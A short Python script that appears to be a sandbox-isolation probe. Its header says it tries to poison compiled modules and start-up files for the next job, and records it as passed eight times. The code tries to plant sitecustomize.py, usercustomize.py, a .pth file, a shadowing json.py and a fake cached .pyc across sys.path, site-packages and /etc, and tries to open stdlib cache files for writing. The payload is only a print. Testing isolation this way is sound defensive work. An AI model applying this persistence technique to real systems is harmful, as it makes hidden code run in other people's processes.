# tries: to poison compiled modules and start-up files for the next job
# outcomes: passed
# times: 8
import glob, os, site, sys
import attack
TEXT = b"print('GOT run by the next job')\n"
folders = {*sys.path, *site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__), "/work", "/tmp", "/etc"}
for folder in folders:
    for name in ("sitecustomize.py", "usercustomize.py", "left.pth", "__pycache__/json.cpython-311.pyc", "json.py", "attack_next.py"):
        try:
            with open(os.path.join(folder or ".", name), "xb") as file:
                file.write(TEXT)
        except OSError:
            continue
        if folder not in ("/work", "/tmp", "") and not folder.startswith(("/work/", "/tmp/")):
            print("GOT wrote", folder, name)
for path in glob.glob(os.path.dirname(os.__file__) + "/__pycache__/*")[:20]:
    attack.attempt(path, lambda: open(path, "r+b"))
attack.tried()
